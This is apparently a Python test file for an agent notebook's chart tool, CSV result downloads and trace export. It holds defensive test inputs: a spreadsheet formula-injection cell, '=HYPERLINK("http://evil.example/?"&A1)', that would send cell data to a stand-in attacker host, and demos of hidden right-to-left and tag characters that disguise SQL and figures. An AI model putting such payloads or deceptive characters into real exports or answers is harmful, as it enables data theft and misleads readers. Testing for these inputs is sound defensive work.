"""Tables and charts from tool calls: the chart tool's checks, the demo's chart prompt through the
service, the CSV download of a full SQL result and the export's `results` section."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from browser_helpers import call_rule
from channels.db import database_sync_to_async
from django.test import AsyncClient, override_settings

from runs import service
from runs.demo.charts import (
    BRAND_CHART_PROMPT,
    CHART_PROMPT,
    CITY_REVENUE_SQL,
    PLAIN_COLOUR,
)
from runs.demo.hidden_text import (
    HIDDEN_PROMPT,
    HIDDEN_SQL,
    PROSE_ANSWER,
    PROSE_PROMPT,
)
from runs.demo.server import stop_demo_server
from runs.engine.testing import Match, Reply, Rule, Script, ToolCallSpec
from runs.models import Event, Task
from runs.presets.tools.sql import sql_query
from runs.service import runtime
from tests.live_support import (
    body,
    close_db_connections,  # noqa: F401  (autouse)
    llm_at,
    make_notebook,
    make_user,
)
from tests.sql_support import query_rows

BAR = {
    "mark": "bar",
    "encoding": {
        "x": {"field": "city", "type": "nominal"},
        "y": {"field": "revenue", "type": "quantitative"},
    },
}

pytestmark = [pytest.mark.db, pytest.mark.django_db(transaction=True)]


async def _events(task: Task) -> list[dict[str, Any]]:
    return [e.payload async for e in Event.objects.filter(task=task).order_by("seq")]


async def run_turn(
    scripted_server: Any, rules: list[Rule], text: str
) -> tuple[Any, Task]:
    """A notebook of a new user, one message run to the end with `rules` as the model."""
    with llm_at(scripted_server(Script(rules=rules))):
        user = await database_sync_to_async(make_user)()
        task = await database_sync_to_async(make_notebook)(user)
        await service.send_message(task.pk, text)
        await service.wait_idle()
    return user, task


async def _demo_turn(
    tmp_path: Any, prompt: str
) -> tuple[Any, Task, list[dict[str, Any]]]:
    """A function-calling notebook on `prompt`, run to its end by the offline demo model."""
    demo = override_settings(
        OPENAI_API_KEY="",
        OPENAI_BASE_URL="",
        AGENTUI_MODEL="",
        AGENTUI_DATA_DIR=str(tmp_path),
    )
    with demo:
        runtime.forget_all()
        try:
            user = await database_sync_to_async(make_user)()
            task = await service.create_notebook(
                user, prompt, "function_calling", "auto"
            )
            await service.wait_idle()
        finally:
            runtime.forget_all()
            stop_demo_server()
    return user, task, await _events(task)


async def test_demo_chart_prompt_charts_the_query_result_by_call_id(
    tmp_path: Any,
) -> None:
    user, task, stored = await _demo_turn(tmp_path, CHART_PROMPT)
    with override_settings(
        AGENTUI_DATA_DIR=str(tmp_path)
    ):  # the demo's own sample data
        expected = await sync_to_async(sql_query)(CITY_REVENUE_SQL)
    results = {e["tool_name"]: e for e in stored if e["type"] == "tool_call_result"}
    chart = results["chart"]
    assert not chart["tool_output"]["is_error"], chart["tool_output"]["content"]
    assert chart["tool_kwargs"]["data_from_call"] == results["sql_query"]["tool_id"]
    spec = chart["tool_output"]["raw_output"]["spec"]
    assert spec["data"]["values"] == [
        dict(zip(expected["columns"], row)) for row in expected["rows"]
    ]
    # The model is told briefly what was drawn, not sent its own data back.
    assert chart["tool_output"]["content"].startswith(
        "Chart drawn for the person: bar chart of"
    )
    answer = [e for e in stored if e["type"] == "task_completed"][0]["response"]
    assert "| City | Revenue |" in answer and "```sql" in answer

    client = AsyncClient()
    await sync_to_async(client.force_login)(user)
    export = json.loads(
        await body(await client.get(f"/api/tasks/{task.pk}/trace.json"))
    )
    kinds = [(item["kind"], item["tool_name"]) for item in export["results"]]
    assert kinds == [("table", "sql_query"), ("chart", "chart")]
    assert export["results"][1]["spec"] == spec
    assert export["results"][0]["rows"] == expected["rows"]
    # The trace page asks for the events alone: the same events, no results section.
    lean = json.loads(
        await body(await client.get(f"/api/tasks/{task.pk}/trace.json?results=0"))
    )
    assert lean["results"] == [] and lean["events"] == export["events"]
    assert {k: v for k, v in lean.items() if k != "results"} == {
        k: v for k, v in export.items() if k != "results"
    }


async def test_an_invalid_spec_is_an_error_the_model_sees_and_corrects(
    scripted_server: Any,
) -> None:
    bad = {**BAR, "mark": "barz"}
    good = dict(BAR)

    def fix(request: Any) -> Reply:
        error = [m for m in request.messages if m.get("role") == "tool"][-1]["content"]
        assert "mark: 'barz' is not one of" in error
        return Reply(
            text="Fixed the mark.",
            tool_calls=[
                ToolCallSpec(
                    name="chart",
                    id="c2",
                    arguments={"spec": good, "data_from_call": "q1"},
                )
            ],
        )

    rules = [
        call_rule(
            0,
            "sql_query",
            "q1",
            {"sql": "SELECT name AS city, population AS revenue FROM cities"},
        ),
        call_rule(1, "chart", "c1", {"spec": bad, "data_from_call": "q1"}),
        Rule(match=Match(tool_results_since_user=2), respond=fix),
        Rule(reply=Reply(text="Here is the chart.")),
    ]
    _, task = await run_turn(scripted_server, rules, "Chart city populations")
    charts = [
        e
        for e in await _events(task)
        if e["type"] == "tool_call_result" and e["tool_name"] == "chart"
    ]
    assert [c["tool_output"]["is_error"] for c in charts] == [True, False]
    assert len(charts[1]["tool_output"]["raw_output"]["spec"]["data"]["values"]) == len(
        query_rows("SELECT id FROM cities")[1]
    )


async def test_demo_brand_chart_is_refused_then_drawn_in_a_plain_colour(
    tmp_path: Any,
) -> None:
    """The offline demo shows a refusal: a url(...) colour from a web page, then a plain one."""
    _, _, stored = await _demo_turn(tmp_path, BRAND_CHART_PROMPT)
    charts = [
        e["tool_output"]
        for e in stored
        if e["type"] == "tool_call_result" and e["tool_name"] == "chart"
    ]
    assert [c["is_error"] for c in charts] == [True, False]
    assert "would load a resource" in charts[0]["content"]
    assert charts[1]["raw_output"]["spec"]["mark"]["color"] == PLAIN_COLOUR
    answer = [e for e in stored if e["type"] == "task_completed"][0]["response"]
    assert "| City | Revenue |" in answer


async def test_demo_hidden_characters_reach_the_tool_as_the_model_wrote_them(
    tmp_path: Any,
) -> None:
    """The offline demo's call with hidden characters (its card names them:
    tests/test_browser_hidden_chars.py) runs exactly as written and answers with the total."""
    _, _, stored = await _demo_turn(tmp_path, HIDDEN_PROMPT)
    calls = [e for e in stored if e["type"] == "tool_call"]
    assert [c["tool_kwargs"] for c in calls] == [{"sql": HIDDEN_SQL}]
    assert "\u202e" in HIDDEN_SQL and chr(0xE0074) in HIDDEN_SQL
    result = [e for e in stored if e["type"] == "tool_call_result"][0]
    total = json.loads(result["tool_output"]["content"])["rows"][0][0]
    answer = [e for e in stored if e["type"] == "task_completed"][0]["response"]
    assert f"Lisbon's 2024 revenue is **{total:,.2f}**" in answer, answer


async def test_demo_answer_with_hidden_characters_is_stored_as_the_model_wrote_it(
    tmp_path: Any,
) -> None:
    """The offline demo's answer whose figures are written backwards behind right-to-left
    overrides (the page shows them as markers: tests/test_browser_hidden_prose.py) is stored
    with every character as written."""
    _, _, stored = await _demo_turn(tmp_path, PROSE_PROMPT)
    answer = [e for e in stored if e["type"] == "task_completed"][0]["response"]
    assert answer == PROSE_ANSWER
    assert "\u202e00.081,2\u202c" in answer and chr(0xE0061) in answer


async def test_csv_download_has_every_row_of_the_query_and_only_for_the_owner(
    scripted_server: Any,
) -> None:
    query = "SELECT id, sold_on, revenue FROM sales ORDER BY id"
    rules = [
        call_rule(0, "sql_query", "q1", {"sql": query}),
        Rule(reply=Reply(text="Done.")),
    ]
    user, task = await run_turn(scripted_server, rules, "All sales")
    result = [e for e in await _events(task) if e["type"] == "tool_call_result"][0]
    assert (
        result["tool_output"]["raw_output"]["truncated"] is True
    )  # the model saw 200 rows
    client = AsyncClient()
    await sync_to_async(client.force_login)(user)
    url = f"/api/tasks/{task.pk}/result.csv?step={result['step_id']}&call=q1"
    response = await client.get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith(
        "text/csv"
    )
    rows = await _csv_rows(response)
    columns, expected = await sync_to_async(query_rows)(query)
    assert rows[0] == columns
    assert rows[1:] == [[str(v) for v in row] for row in expected]
    assert len(rows) - 1 == result["tool_output"]["raw_output"]["total_rows"] > 200

    assert (
        await client.get(
            f"/api/tasks/{task.pk}/result.csv?step={result['step_id']}&call=nope"
        )
    ).status_code == 404
    other = await database_sync_to_async(make_user)("mallory")
    stranger = AsyncClient()
    await sync_to_async(stranger.force_login)(other)
    assert (await stranger.get(url)).status_code == 404


async def test_a_sorted_csv_puts_empty_cells_last_and_sorts_stored_tables_too(
    scripted_server: Any,
) -> None:
    # a query with empty cells, sorted either way: they stay last
    query = "SELECT id, NULLIF(city_id, 2) AS city FROM sales ORDER BY id LIMIT 300"
    client, url = await _download_of(scripted_server, query)
    _, expected = await sync_to_async(query_rows)(query)
    filled = [r for r in expected if r[1] is not None]
    empty = [r for r in expected if r[1] is None]
    assert filled and empty
    for order, rows_in_order in (
        ("asc", sorted(filled, key=lambda r: r[1]) + empty),
        ("desc", sorted(filled, key=lambda r: r[1], reverse=True) + empty),
    ):
        rows = await _csv_rows(await client.get(f"{url}&sort=1&order={order}"))
        assert rows[1:] == [
            ["" if v is None else str(v) for v in r] for r in rows_in_order
        ]

    # a table another tool returned (stored, not run again), as records
    rules = [call_rule(0, "list_tables", "t1", {}), Rule(reply=Reply(text="Ok."))]
    user, task = await run_turn(scripted_server, rules, "Tables")
    result = [e for e in await _events(task) if e["type"] == "tool_call_result"][0]
    stored = AsyncClient()
    await sync_to_async(stored.force_login)(user)
    base = f"/api/tasks/{task.pk}/result.csv?step={result['step_id']}&call=t1"
    rows = await _csv_rows(await stored.get(base))
    # the records' keys are columns in the order stored (PostgreSQL's jsonb sorts them)
    name, count = rows[0].index("table"), rows[0].index("rows")
    assert [r[name] for r in rows[1:]] == ["cities", "products", "sales"]
    rows = await _csv_rows(await stored.get(f"{base}&sort={count}&order=desc"))
    assert [r[name] for r in rows[1:]] == ["sales", "cities", "products"]
    rows = await _csv_rows(await stored.get(f"{base}&sort={name}&order=desc"))
    assert [r[name] for r in rows[1:]] == ["sales", "products", "cities"]
    past = await stored.get(f"{base}&sort=2")
    assert past.status_code == 400 and "the table has 2" in past.json()["error"]


async def _csv_rows(response: Any) -> list[list[str]]:
    """The rows of a streamed CSV download."""
    assert response.streaming  # never built whole in memory
    text = "".join([c.decode() async for c in response.streaming_content])
    return list(csv.reader(io.StringIO(text)))


async def _download_of(scripted_server: Any, query: str) -> tuple[Any, str]:
    """A client logged in as the owner of a notebook whose model ran `query`, and its CSV URL."""
    rules = [
        call_rule(0, "sql_query", "q1", {"sql": query}),
        Rule(reply=Reply(text="Ok.")),
    ]
    user, task = await run_turn(scripted_server, rules, "Query")
    result = [e for e in await _events(task) if e["type"] == "tool_call_result"][0]
    client = AsyncClient()
    await sync_to_async(client.force_login)(user)
    return client, f"/api/tasks/{task.pk}/result.csv?step={result['step_id']}&call=q1"


FORMULAS = (
    "SELECT '=HYPERLINK(\"http://evil.example/?\"&A1)' AS \"=cmd\", '+1+1' AS plus,"
    " '-2+3' AS minus, '@SUM(A1)' AS at, char(9) || '=1' AS tab, char(13) || '=1' AS cr,"
    " -5 AS number, '-5' AS number_text, '1.5e3' AS float_text, 'a=b' AS inner_equals,"
    " ' =1' AS space"
)


async def test_csv_download_neutralises_formula_cells_and_keeps_numbers(
    scripted_server: Any,
) -> None:
    client, url = await _download_of(scripted_server, FORMULAS)
    rows = await _csv_rows(await client.get(url))
    assert rows[0][0] == "'=cmd"
    assert rows[1] == [
        '\'=HYPERLINK("http://evil.example/?"&A1)',
        "'+1+1",
        "'-2+3",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
        "-5",
        "-5",
        "1.5e3",
        "a=b",
        " =1",
    ]


async def test_csv_download_stops_at_its_caps_with_a_last_line_saying_so(
    scripted_server: Any,
) -> None:
    client, url = await _download_of(
        scripted_server, "SELECT id, revenue FROM sales ORDER BY id"
    )
    with override_settings(AGENTUI_CSV_EXPORT_MAX_ROWS=100):
        response = await client.get(url)
        assert response["X-Export-Limits"].startswith("rows=100;")
        rows = await _csv_rows(response)
    assert rows[0] == ["id", "revenue"] and [r[0] for r in rows[1:101]] == [
        str(i) for i in range(1, 101)
    ]
    assert len(rows) == 102 and rows[-1][0].startswith("# cut after 100 rows: more")
    assert "AGENTUI_CSV_EXPORT_MAX_ROWS" in rows[-1][0]

    with override_settings(AGENTUI_CSV_EXPORT_MAX_BYTES=1000):
        response = await client.get(url)
        text = "".join([c.decode() async for c in response.streaming_content])
    *kept, (last,) = list(csv.reader(io.StringIO(text)))
    assert len(text.encode()) - len(text.splitlines()[-1]) <= 1000 + 2
    assert last.startswith(f"# cut after {len(kept) - 1} rows: the download stops")
    assert "AGENTUI_CSV_EXPORT_MAX_BYTES" in last

    with override_settings(AGENTUI_CSV_EXPORT_MAX_ROWS=10**9):
        rows = await _csv_rows(await client.get(url))
    assert len(rows) == 1 + 1920 and not rows[-1][0].startswith("#")  # not cut


def test_a_large_export_streams_in_bounded_memory() -> None:
    """3.7 million rows of a cross join: the writer holds one batch at a time."""
    import tracemalloc

    from runs.presets.tools.sql import sql_export
    from runs.traces.results import CsvWriter

    query = "SELECT a.id, a.sold_on, b.revenue FROM sales a, sales b"
    writer = CsvWriter(sql_export(query), max_rows=100_000, max_bytes=10**9)
    tracemalloc.start()
    try:
        written = 0
        while (chunk := writer.next_chunk()) is not None:
            written += len(chunk)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert writer.rows_written == 100_000 and writer.cut is not None
    assert written > 2_000_000
    assert peak < 1_000_000, f"peak {peak:,} bytes for {written:,} bytes of CSV"
